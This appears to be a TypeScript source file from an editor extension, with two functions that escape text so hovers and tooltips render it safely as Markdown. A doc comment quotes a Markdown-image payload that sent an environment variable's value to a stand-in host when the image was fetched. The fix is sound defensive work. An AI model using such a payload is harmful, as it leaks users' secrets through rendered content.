/**
 * Text of a file or of the process shown in a hover, which the editor renders as Markdown. A value
 * written between single backticks ends its code span at its own first backtick, and what follows
 * is Markdown again: `` ` ![x](https://host/?q={{$processEnv GRAPHREQ_VAR_KEY}}) `` in a variable
 * made the editor fetch that image, with the variable's value in its address, as the hover showed.
 * CommonMark ends a code span only at a run of as many backticks as opened it, so the fence here is
 * one longer than any run inside; nothing in a code span is an image, a link or HTML.
 */
export function codeSpan(text: string): string {
  let longest = 0;
  for (const run of text.match(/`+/g) ?? []) longest = Math.max(longest, run.length);
  const fence = '`'.repeat(longest + 1);
  // A space inside each fence when the text starts or ends with a backtick (CommonMark strips one on each side).
  const pad = /^`|`$/.test(text) ? ' ' : '';
  return `${fence}${pad}${text.replace(/[\r\n]+/g, ' ')}${pad}${fence}`;
}

/**
 * Text of a file, a setting or a service shown as plain words in Markdown (a tooltip naming an
 * environment, a base URL, a usage header's scope). Every ASCII punctuation character is escaped
 * with a backslash (CommonMark lets each be), so nothing in it opens a link, an image, HTML, an
 * entity, emphasis, a table cell or a theme icon (`$(…)`), and a URL in it is not made a link
 * (autolinks need `://`, `www.` or `@` unbroken in the source); a line break is a space.
 */
export function markdownText(text: string): string {
  return text.replace(/[\r\n\u2028\u2029]+/g, ' ').replace(/[!-/:-@[-`{-~]/g, '\\$&');
}
